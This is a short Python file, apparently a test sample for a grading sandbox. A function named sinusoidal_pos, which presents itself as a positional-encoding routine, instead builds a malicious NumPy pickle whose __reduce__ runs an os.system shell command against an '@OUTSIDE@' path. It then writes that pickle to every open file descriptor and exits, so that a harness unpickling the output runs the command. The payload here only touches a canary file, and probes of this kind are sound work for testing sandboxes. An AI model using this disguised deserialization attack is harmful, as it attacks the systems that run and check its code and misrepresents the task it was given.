# status: error
# says: not one whole result
# A file of NumPy's with a pickle in it.
import io
import os

import numpy as np


def send(data):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, data)
        except OSError:
            pass
    os._exit(0)


class Runs:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/unpickled",)


def sinusoidal_pos(seed, T, d_model):
    file = io.BytesIO()
    np.save(file, np.array([Runs()], dtype=object), allow_pickle=True)
    send(file.getvalue())
